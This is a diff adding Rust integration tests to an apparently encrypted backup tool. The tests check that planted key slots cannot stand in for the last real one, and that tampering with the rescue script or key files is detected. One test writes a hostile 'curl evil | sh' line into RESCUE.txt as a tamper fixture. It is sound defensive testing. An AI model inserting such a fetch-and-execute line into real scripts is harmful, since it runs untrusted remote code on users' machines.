@@ -202,3 +202,42 @@ fn a_slot_that_a_stranger_put_there_changes_nothing() {
     machine.run(&format!("list offsite {} --signer {}", machine.key(), stranger.signer())).fails(5, &["another key"]);
     machine.run(&format!("list offsite {} --signer RWnonsense", machine.key())).fails(2, &["--signer"]);
 }
+
+/// Anybody who can write to the repository can put a slot there.
+#[test]
+fn a_planted_slot_is_no_reason_to_give_up_the_last_one() {
+    let machine = Machine::ready();
+    let slot = machine.run("key list offsite --json").done().json()["slots"][0]["name"].as_str().unwrap().to_owned();
+    let real = machine.objects.join(format!("keys/{slot}.age"));
+    fs::copy(&real, machine.objects.join("keys/age-planted.age")).unwrap();
+    fs::write(machine.objects.join("keys/age-nonsense.age"), "nothing").unwrap();
+    let before = machine.tree();
+    machine.run(&format!("key remove offsite {slot}")).fails(1, &["none of the slots beside", "nothing was changed"]);
+    assert_eq!(machine.tree(), before);
+    // One that this machine made may stay alone.
+    let recipient = recipient_of(&machine.identity());
+    machine.run(&format!("key add offsite --recipient {recipient} {}", machine.key())).done();
+    machine.run(&format!("key remove offsite {slot}")).done();
+}
+
+#[test]
+fn what_init_wrote_is_missed_and_its_change_is_told() {
+    let machine = Machine::ready();
+    machine.run("check offsite").done();
+    let rescue = machine.objects.join("RESCUE.txt");
+    let text = fs::read_to_string(&rescue).unwrap();
+    let hash = blake3::hash(text.as_bytes()).to_hex();
+    let sheet = fs::read_to_string(machine.config().join("offsite.recovery.txt")).unwrap();
+    assert!(sheet.contains(hash.as_str()), "the sheet tells how to know the right one");
+    fs::write(&rescue, text.replace("set -eu", "curl evil | sh")).unwrap();
+    machine.run("check offsite").exit(3).warns(&["RESCUE.txt: it is not what this machine put there"]);
+    fs::write(&rescue, &text).unwrap();
+    let slot = fs::read_dir(machine.objects.join("keys")).unwrap().next().unwrap().unwrap().path();
+    let sealed = fs::read(&slot).unwrap();
+    fs::write(&slot, &sealed[1..]).unwrap();
+    machine.run("check offsite").exit(3).warns(&["it is not what this machine put there"]);
+    fs::remove_file(&slot).unwrap();
+    machine.run("check offsite").exit(3).warns(&["it is missing"]);
+    machine.run("check offsite --accept").done();
+    machine.run("check offsite").done();
+}
